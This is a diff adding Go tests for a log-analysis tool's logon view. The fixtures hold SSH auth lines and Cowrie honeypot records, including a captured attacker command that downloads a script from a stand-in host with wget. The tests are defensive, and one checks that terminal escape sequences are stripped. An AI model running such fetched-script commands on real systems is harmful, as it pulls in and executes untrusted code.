@@ -1,0 +1,79 @@
+package detail
+
+import (
+	"context"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/charmbracelet/x/ansi"
+	"github.com/longtail/longtail/db"
+	engsubject "github.com/longtail/longtail/engine/subject"
+	"github.com/longtail/longtail/tui/common"
+	"github.com/longtail/longtail/tui/internal/tuitest"
+)
+
+// logons is a workspace of an auth log and a honeypot's log.
+func logons(t *testing.T) common.Common {
+	t.Helper()
+	dir := t.TempDir()
+	auth := filepath.Join(dir, "auth.log")
+	pot := filepath.Join(dir, "cowrie.json")
+	write(t, auth, "Mar 27 13:07:02 web1 sshd[1301]: Failed password for invalid user admin from 10.0.2.18 port 50691 ssh2\n"+
+		"Mar 27 13:07:03 web1 sshd[1302]: Failed password for root from 10.0.2.18 port 50692 ssh2\n"+
+		"Mar 27 13:09:00 web1 sshd[1303]: Accepted password for root from 10.0.2.18 port 50693 ssh2\n")
+	write(t, pot, `{"eventid": "cowrie.login.success", "username": "root", "password": "hunter2", "timestamp": "2018-06-01T00:05:01Z", "src_ip": "192.0.2.7", "sensor": "pot1"}`+"\n"+
+		`{"eventid": "cowrie.command.input", "input": "wget http://x.example/a.sh", "timestamp": "2018-06-01T00:05:02Z", "src_ip": "192.0.2.7", "sensor": "pot1"}`+"\n")
+	return ingested(t, dir, auth, pot)
+}
+
+// The logons of an account have the logon's columns (source, type,
+// result, account → target with the reason in words), and the
+// authentication and password of the cursor's row under them.
+func TestLogonEvents(t *testing.T) {
+	c := logons(t)
+	n, err := c.DB.NameByText(context.Background(), engsubject.LogonAccount, "root")
+	if err != nil {
+		t.Fatal(err)
+	}
+	v := tuitest.Open(NewEvents, c, common.Target{Subject: db.Subject{Kind: db.SubjectName, ID: n.ID}, Label: n.Name, Name: &n}, 100, 14)
+	got := ansi.Strip(v.View())
+	for _, want := range []string{"source", "result", "account → target", "10.0.2.18", "192.0.2.7", "ssh", "success", "failure",
+		"logons of root", "root → web1  wrong password", "root → pot1", "auth password"} {
+		if !strings.Contains(got, want) {
+			t.Errorf("no %q:\n%s", want, got)
+		}
+	}
+	if strings.Contains(got, "qtype") || strings.Contains(got, "rcode") {
+		t.Errorf("DNS columns on logons:\n%s", got)
+	}
+}
+
+// A honeypot's command shows what was typed; a logon with an unknown user
+// says so in words.
+func TestLogonRowFormatting(t *testing.T) {
+	row := formatLogon(db.EventRow{Client: "10.0.0.1", Logon: engsubject.LogonDetail{EventID: 4625, Account: "bob", AccountDomain: "CORP",
+		Target: "dc01", LogonType: "3", Auth: "NTLM", Result: "failure", Reason: "0xC0000064"}, Source: "sec.evtx", Line: 7}, false)
+	if row.qtype != "3" || row.rcode != "failure" || row.ttl != "4625" || row.answers != `CORP\bob → dc01  no such user` ||
+		row.detail != "auth NTLM  status 0xC0000064" {
+		t.Errorf("windows logon %+v", row)
+	}
+	row = formatLogon(db.EventRow{Client: "192.0.2.7", Logon: engsubject.LogonDetail{Account: "root", Target: "pot1", Result: "success",
+		Password: "hunter2", Auth: "password"}}, false)
+	if row.answers != "root → pot1" || row.detail != "auth password  password hunter2" {
+		t.Errorf("honeypot login %+v", row)
+	}
+	row = formatLogon(db.EventRow{Client: "192.0.2.7", Logon: engsubject.LogonDetail{Target: "pot1", Command: "uname -a\x1b[31m"}}, false)
+	if !strings.HasPrefix(row.answers, "→ pot1  command uname -a") {
+		t.Errorf("command %+v", row)
+	}
+	if strings.ContainsRune(row.answers, '\x1b') || strings.ContainsRune(row.detail, '\x1b') {
+		t.Errorf("an escape reached the screen: %q %q", row.answers, row.detail)
+	}
+}
+
+// The pivot of a logon's source lists what it did across the logon's
+// subjects and counts its logons once each.
+func TestPivotOfALogonSource(t *testing.T) {
+	pivotShows(t, logons(t), "10.0.2.18", 30, "3 logons", "logon source 10.0.2.18", "logon account root", "logon account admin")
+}
